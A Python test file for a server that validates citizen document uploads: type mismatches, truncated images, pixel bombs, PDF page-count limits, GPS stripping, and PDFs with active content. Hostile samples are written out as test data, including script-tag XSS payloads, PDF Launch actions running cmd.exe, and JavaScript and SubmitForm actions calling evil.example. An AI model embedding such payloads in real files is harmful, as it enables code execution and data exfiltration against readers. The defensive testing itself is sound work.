"""What the server checks when the last byte lands, and that no byte of an invalid file is
kept where it could be served.

There is no read endpoint yet: each case asserts the document's status and reason in the
database and that the stored file is gone (invalid) or present and private (ready).
"""
from __future__ import annotations

import pytest

from server.i18n import reason_words
from tests.helpers import assert_error
from tests.uploads.conftest import (
    document, image_bytes, pdf_bytes, png_header_only, sha256, stored_files, stored,
    upload_row,
)
from tests.uploads.helpers import finish, jpeg_with_location


def assert_invalid(app, doc, row, words_id: str, words_en: str):
    """Invalid, with a reason stored as its code, which the citizen reads in both languages."""
    assert doc.status == "invalid"
    assert doc.reason.startswith("upload_invalid_"), doc.reason
    said = reason_words(doc.reason)
    assert words_id in said and words_en in said, said
    assert row.completed_at is not None
    assert not stored(app, row).exists()  # nothing of it can ever be served
    assert stored_files(app) == []


@pytest.mark.parametrize("fmt,content_type", [
    ("JPEG", "image/jpeg"), ("PNG", "image/png"), ("WEBP", "image/webp")])
def test_good_images_are_ready(app, tus, fmt, content_type):
    data = image_bytes(fmt, size=(400, 300))
    doc, row = finish(app, tus, data, content_type)
    assert (doc.status, doc.reason) == ("ready", "")
    assert stored(app, row).read_bytes() == data


def test_a_good_pdf_is_ready(app, tus):
    data = pdf_bytes(3)
    doc, row = finish(app, tus, data, "application/pdf", filename="akta.pdf")
    assert doc.status == "ready" and stored(app, row).read_bytes() == data


def test_a_png_renamed_pdf_is_invalid(app, tus):
    doc, row = finish(app, tus, image_bytes("PNG"), "application/pdf", filename="kk.pdf")
    assert_invalid(app, doc, row, "tidak sesuai dengan jenisnya", "does not match its type")


def test_a_jpeg_cut_in_half_is_invalid(app, tus):
    data = image_bytes("JPEG", size=(640, 480))
    half = data[:len(data) // 2]  # sha256 declared for the half: only the decode can tell
    doc, row = finish(app, tus, half, "image/jpeg")
    assert_invalid(app, doc, row, "rusak", "damaged")


@pytest.mark.parametrize("body", [
    b"<!DOCTYPE html><html><script>alert(1)</script></html>",
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>",
], ids=["html", "svg-xml", "svg"])
def test_html_and_svg_posing_as_images_are_invalid(app, tus, body):
    doc, row = finish(app, tus, body, "image/png", filename="foto.png")
    assert_invalid(app, doc, row, "bukan foto", "not a JPEG")


def test_a_png_with_html_appended_is_invalid(app, tus):
    data = image_bytes("PNG", size=(50, 50)) + b"<html><script>alert(1)</script></html>"
    doc, row = finish(app, tus, data, "image/png")
    assert_invalid(app, doc, row, "data tambahan", "extra data")


def test_a_file_starting_with_pdf_magic_that_is_an_image(app, tus):
    data = b"%PDF-1.7\n" + image_bytes("PNG", size=(50, 50))
    doc, row = finish(app, tus, data, "image/png")  # declared image: the content says PDF
    assert_invalid(app, doc, row, "tidak sesuai", "does not match")
    doc, row = finish(app, tus, data, "application/pdf")  # declared PDF: not a readable one
    assert_invalid(app, doc, row, "rusak", "damaged")


def test_a_webp_with_a_tail_is_invalid(app, tus):
    data = image_bytes("WEBP", size=(50, 50)) + b"<html></html>"
    doc, row = finish(app, tus, data, "image/webp")
    assert_invalid(app, doc, row, "data tambahan", "extra data")


@pytest.mark.parametrize("width,height", [(30000, 30000), (7000, 7000)],
                         ids=["900MP-error", "49MP-warning-range"])
def test_pixel_bombs_are_invalid_without_decoding(app, tus, width, height):
    data = png_header_only(width, height)
    assert len(data) < 2000
    doc, row = finish(app, tus, data, "image/png")
    assert_invalid(app, doc, row, "terlalu besar", "too large")


def test_a_zero_byte_file_is_invalid(app, tus):
    response = tus.create(b"", content_type="image/jpeg")
    assert response.status_code == 201 and response.headers["Upload-Offset"] == "0"
    row = upload_row(app, response.headers["Location"])
    assert_invalid(app, document(app, row.document_id), row, "kosong", "empty")


def test_a_pdf_with_500_pages_is_invalid(app, tus):
    doc, row = finish(app, tus, pdf_bytes(500), "application/pdf")
    assert_invalid(app, doc, row, "terlalu banyak halaman", "too many pages")


def test_an_encrypted_pdf_is_invalid(app, tus):
    import io

    from pypdf import PdfWriter

    writer = PdfWriter()
    writer.add_blank_page(width=100, height=100)
    writer.encrypt("rahasia")
    buffer = io.BytesIO()
    writer.write(buffer)
    doc, row = finish(app, tus, buffer.getvalue(), "application/pdf")
    assert_invalid(app, doc, row, "kata sandi", "password")


def test_bytes_that_differ_from_the_declared_sha256_are_invalid(app, tus):
    data = image_bytes("PNG", size=(50, 50))
    doc, row = finish(app, tus, data, "image/png", digest=sha256(b"another file"))
    assert_invalid(app, doc, row, "tidak sama", "differs")


def test_the_reason_follows_no_request_language(app, client, citizen):
    """The stored reason is a code, whatever the uploading phone asked for; the pull answers
    it in both languages (and the code beside it)."""
    from tests.api.devices import Device
    from tests.uploads.conftest import Tus

    tus = Tus(client, {**citizen["headers"], "Accept-Language": "en"})
    doc, row = finish(app, tus, b"plain text", "image/jpeg")
    assert doc.reason == "upload_invalid_type"
    pulled = Device(client, {**citizen["headers"], "Accept-Language": "en"}).pull(cookie=None)
    [value] = [op["value"] for op in pulled.get_json()["patch"]
               if op["key"] == f"document/{doc.id}"]
    assert value["reason"].startswith("Berkas bukan") and "/ The file is not" in value["reason"]
    assert value["reason_code"] == "upload_invalid_type"


@pytest.mark.parametrize("xmp", [False, True], ids=["exif", "exif+xmp"])
def test_jpeg_location_is_removed_without_reencoding(app, tus, xmp):
    import io

    from PIL import Image

    data = jpeg_with_location(xmp)
    assert Image.open(io.BytesIO(data)).getexif().get_ifd(0x8825)
    assert (b"GPSLatitude" in data) is xmp
    doc, row = finish(app, tus, data, "image/jpeg")
    assert doc.status == "ready", doc.reason
    kept = stored(app, row).read_bytes()
    assert kept != data and doc.sha256 == sha256(kept) != sha256(data)
    assert doc.size == len(kept) < len(data)  # the document describes the stored file
    assert b"GPSLatitude" not in kept
    exif = Image.open(io.BytesIO(kept)).getexif()
    assert 0x8825 not in exif and exif.get_ifd(0x8825) == {}
    assert exif[0x0112] == 6 and exif[0x010F] == "Samsung"
    assert exif.get_ifd(0x8769)[0x9003] == "2026:11:23 10:00:00"
    scan = data.index(b"\xff\xda")  # the compressed image is copied byte for byte
    assert kept.endswith(data[scan:])
    assert Image.open(io.BytesIO(kept)).tobytes() == Image.open(io.BytesIO(data)).tobytes()
    # the original with location is gone; the preview is its own file
    assert stored_files(app) == sorted([row.storage_name, row.preview_name])


def test_a_jpeg_without_location_is_kept_as_sent(app, tus):
    data = image_bytes("JPEG", size=(100, 80))
    doc, row = finish(app, tus, data, "image/jpeg")
    assert doc.sha256 == sha256(data) and stored(app, row).read_bytes() == data


def raw_pdf(objects: dict[int, bytes]) -> bytes:
    """A PDF written by hand (objects by number, a correct xref), for page trees pypdf's
    writer would never make."""
    out = bytearray(b"%PDF-1.4\n")
    offsets = {}
    for number in sorted(objects):
        offsets[number] = len(out)
        out += b"%d 0 obj\n" % number + objects[number] + b"\nendobj\n"
    xref, size = len(out), max(objects) + 1
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for number in range(1, size):
        out += b"%010d 00000 n \n" % offsets[number]
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (size, xref)
    return bytes(out)


def test_a_pdf_naming_110000_pages_is_refused_by_a_bounded_walk(app, tus):
    """pypdf's own `len(reader.pages)` walks up to 100,000 page entries (0.9 s here, then
    "damaged"); checks.py stops counting at MAX_PDF_PAGES + 1 (under 10 ms) and says why."""
    inner, per = 100, 1100
    objects = {1: b"<< /Type /Catalog /Pages 2 0 R >>",
               2: b"<< /Type /Pages /Count %d /Kids [" % (inner * per)
               + b" ".join(b"%d 0 R" % (4 + i) for i in range(inner)) + b"] >>",
               3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"}
    for i in range(inner):
        objects[4 + i] = (b"<< /Type /Pages /Parent 2 0 R /Count %d /Kids [" % per
                          + b"3 0 R " * per + b"] >>")
    doc, row = finish(app, tus, raw_pdf(objects), "application/pdf")
    assert_invalid(app, doc, row, "terlalu banyak halaman", "too many pages")


def test_a_pdf_whose_page_tree_loops_is_invalid(app, tus):
    data = raw_pdf({1: b"<< /Type /Catalog /Pages 2 0 R >>",
                    2: b"<< /Type /Pages /Count 2 /Kids [3 0 R 2 0 R] >>",
                    3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"})
    doc, row = finish(app, tus, data, "application/pdf")
    assert_invalid(app, doc, row, "rusak", "damaged")


def test_a_hand_written_pdf_within_the_limits_is_ready(app, tus):
    """The hand-written PDFs above fail for their page trees, not for being hand-written."""
    data = raw_pdf({1: b"<< /Type /Catalog /Pages 2 0 R >>",
                    2: b"<< /Type /Pages /Count 2 /Kids [3 0 R 3 0 R] >>",
                    3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"})
    doc, _row = finish(app, tus, data, "application/pdf")
    assert doc.status == "ready", doc.reason


# ---- PDFs with active content (checks.active_content) ------------------------------------

CATALOG, PAGES = b"/Type /Catalog /Pages 2 0 R", b"<< /Type /Pages /Count 1 /Kids [3 0 R] >>"
PAGE = b"/Type /Page /Parent 2 0 R /MediaBox [0 0 595 842]"


def hostile_pdf(catalog: bytes = b"", page: bytes = b"", annotation: bytes | None = None,
                extra: dict[int, bytes] | None = None) -> bytes:
    """A one-page PDF written by hand with `catalog` and `page` entries added, and one
    annotation (object 4) on the page when given."""
    annots = b" /Annots [4 0 R]" if annotation is not None else b""
    objects = {1: b"<< " + CATALOG + b" " + catalog + b" >>", 2: PAGES,
               3: b"<< " + PAGE + b" " + page + annots + b" >>"}
    objects[4] = annotation if annotation is not None else b"<< /Type /Metadata >>"
    objects.update(extra or {})
    return raw_pdf(objects)


def pypdf_pdf(change) -> bytes:
    """A PDF made by pypdf's writer after `change(writer)` (its own ways of adding
    JavaScript and attachments)."""
    import io

    from pypdf import PdfWriter

    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    change(writer)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def pypdf_javascript(code: str):
    from pypdf.actions import JavaScript

    return JavaScript(code)


LINK = b"<< /Type /Annot /Subtype /Link /Rect [10 10 200 40] /A "
HOSTILE_PDFS = {
    # The review's two: a script that runs on open and a JavaScript name tree.
    "OpenAction and Names/JavaScript": hostile_pdf(
        b"/OpenAction 5 0 R /Names << /JavaScript << /Names [(send) 6 0 R] >> >>",
        extra={5: b"<< /Type /Action /S /JavaScript /JS (app.alert('Halo petugas');) >>",
               6: b"<< /S /JavaScript /JS (this.submitForm('https://evil.example/x');) >>"}),
    "Launch on open": hostile_pdf(
        b"/OpenAction << /S /Launch /Win << /F (cmd.exe) /P (/c calc.exe) >> >>"),
    "pypdf add_open_action(JavaScript)": pypdf_pdf(
        lambda w: w.add_open_action(pypdf_javascript("this.print({bUI: false});"))),
    "AA on the page opening a URI": hostile_pdf(
        page=b"/AA << /O << /S /URI /URI (https://evil.example/beacon) >> >>"),
    "AA on a widget running JS": hostile_pdf(
        annotation=b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (nik) /Rect [0 0 9 9] "
                   b"/AA << /K << /S /JavaScript /JS 5 0 R >> >> >>",
        extra={5: b"<< /Length 9 >>\nstream\napp.beep\nendstream"}),
    "JS action on a link": hostile_pdf(
        annotation=LINK + b"<< /S /JavaScript /JS (app.launchURL('x')) >> >>"),
    "a /JS key beside a harmless action": hostile_pdf(
        annotation=LINK + b"<< /S /Named /N /NextPage /JS (app.alert(1)) >> >>"),
    "SubmitForm on a link": hostile_pdf(
        annotation=LINK + b"<< /S /SubmitForm /F << /FS /URL /F (https://evil.example) >> >> >>"),
    "GoToR to a network share": hostile_pdf(
        annotation=LINK + b"<< /S /GoToR /F (\\\\\\\\evil\\\\share\\\\x.pdf) /D [0 /Fit] >> >>"),
    "URI that opens by itself": hostile_pdf(
        b"/OpenAction << /S /URI /URI (https://evil.example/opened) >>"),
    "a chained action after a move": hostile_pdf(
        b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /Launch /F (x.exe) >> >>"),
    "RichMedia annotation": hostile_pdf(
        annotation=b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] "
                   b"/RichMediaContent << /Assets << /Names [] >> >> >>"),
    "FileAttachment annotation": hostile_pdf(
        annotation=b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] "
                   b"/FS << /Type /Filespec /F (surat.exe) >> >>"),
    "EmbeddedFiles (pypdf add_attachment)": pypdf_pdf(
        lambda w: w.add_attachment("surat.exe", b"MZ\x90\x00 not really a program")),
    "XFA form": hostile_pdf(b"/AcroForm << /Fields [] /XFA 5 0 R >>",
                            extra={5: b"<< /Length 7 >>\nstream\n<xdp/>\nendstream"}),
}


@pytest.mark.parametrize("name", sorted(HOSTILE_PDFS))
def test_pdfs_with_active_content_are_invalid(app, tus, name):
    doc, row = finish(app, tus, HOSTILE_PDFS[name], "application/pdf")
    assert_invalid(app, doc, row, "berisi skrip", "contains scripts")


PASSIVE_PDFS = {
    "a link the officer may click": hostile_pdf(
        annotation=LINK + b"<< /S /URI /URI (https://dukcapil.kemendagri.go.id/) >> >>"),
    "opening at a page": hostile_pdf(b"/OpenAction [3 0 R /Fit]"),
    "an outline that moves": hostile_pdf(
        b"/Outlines 5 0 R",
        extra={5: b"<< /Type /Outlines /First 6 0 R /Last 6 0 R /Count 1 >>",
               6: b"<< /Title (Halaman 1) /Parent 5 0 R /A << /S /GoTo /D [3 0 R /Fit] >> >>"}),
}


@pytest.mark.parametrize("name", sorted(PASSIVE_PDFS))
def test_pdfs_with_passive_links_are_ready_and_kept_as_sent(app, tus, name):
    """A link needs a click and shows its target; moving within the document is harmless.
    Nothing is rewritten: the stored bytes are the citizen's own."""
    data = PASSIVE_PDFS[name]
    doc, row = finish(app, tus, data, "application/pdf")
    assert doc.status == "ready", doc.reason
    assert doc.sha256 == sha256(data) and stored(app, row).read_bytes() == data


# ---- the pixel cap, and how many checks run at once ----------------------------------------

def test_a_16_mp_phone_photo_is_ready_and_more_pixels_are_too_large(app, tus):
    doc, row = finish(app, tus, png_header_only(4100, 4100), "image/png")  # 16.8 MP
    assert_invalid(app, doc, row, "terlalu besar", "too large")
    data = image_bytes("PNG", size=(4608, 3456), noise=False)  # a 16 MP camera's 15.9 MP
    doc, row = finish(app, tus, data, "image/png")
    assert doc.status == "ready", doc.reason
    assert stored(app, row).read_bytes() == data


def check_slots(app):
    from server.uploads.routes import _check_slots

    with app.test_request_context():
        return _check_slots()


def test_one_citizens_checks_run_one_at_a_time(app, tus, citizen):
    """While one of the citizen's checks runs, their next upload's last piece is refused
    (429, retry) and not recorded; sent again later, it completes."""
    data = image_bytes("PNG", size=(64, 48))
    url = tus.create(data).headers["Location"]
    with check_slots(app).slot(str(citizen["id"])):  # a check of theirs is running
        answer = tus.patch(url, 0, data)
        error = assert_error(answer, 429, "upload_checks_busy")
        assert error["details"] == {"retry_after": 5} and answer.headers["Retry-After"] == "5"
        row = upload_row(app, url)
        assert row.offset == 0 and row.completed_at is None and row.lock_token is None
        assert document(app, row.document_id).status == "uploading"
    assert tus.patch(url, 0, data).status_code == 204
    assert document(app, row.document_id).status == "ready"


def test_a_check_waits_for_a_free_slot_of_the_process_then_is_refused(app, tus):
    import time

    app.config.update(UPLOAD_CHECKS_PER_PROCESS=1, UPLOAD_CHECK_WAIT_SECONDS=0.3)
    app.extensions.pop("upload_check_slots", None)
    data = image_bytes("PNG", size=(64, 48))
    url = tus.create(data).headers["Location"]
    with check_slots(app).slot("another citizen"):  # the process's one slot is taken
        started = time.monotonic()
        answer = tus.patch(url, 0, data)
        waited = time.monotonic() - started
        assert_error(answer, 503, "upload_checks_busy")
        assert waited >= 0.3 and answer.headers["Retry-After"] == "5"
        assert upload_row(app, url).offset == 0
    assert tus.patch(url, 0, data).status_code == 204
    assert document(app, upload_row(app, url).document_id).status == "ready"
